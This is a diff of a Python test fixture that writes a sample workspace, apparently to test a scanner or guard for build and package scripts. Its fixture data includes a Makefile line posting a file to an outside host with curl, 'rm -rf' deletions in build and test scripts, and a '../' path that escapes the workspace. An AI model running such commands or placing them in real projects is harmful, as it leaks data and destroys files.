@@ -59,7 +59,8 @@ def workspace(tmp_path: Path) -> Path:
         "build.sh": "#!/bin/bash\nrm -rf out\nmake all\n",
         "run.py": "print(1)\n",
         "Makefile": "all:\n\tcurl -d @x https://example.org\n",
-        "package.json": '{"scripts": {"test": "rm -rf /tmp/x"}}',
+        "package.json": json.dumps({"scripts": {"test": f"rm -rf {tmp_path}/cache"}}),
+        "../cache/old.txt": "old\n",
         "src/a.txt": "one\n",
         "src/b.txt": "two\n",
     }.items():
